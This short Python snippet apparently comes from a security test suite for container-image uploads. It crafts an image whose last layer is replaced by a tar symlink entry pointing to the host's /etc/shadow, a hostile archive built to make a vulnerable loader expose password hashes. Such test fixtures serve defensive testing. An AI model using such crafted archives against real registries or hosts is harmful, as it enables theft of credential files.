"""The last layer's file is a symbolic link to a file of the host."""


def upload(kit):
    image = kit.image(layers=[*kit.layers, kit.known.victim_layer])
    name = kit.tars.manifest_of(image)[0]["Layers"][-1]
    link = kit.tars.entry(name, kind=b"2", link="/etc/shadow")
    return link + image.without(name).tar()
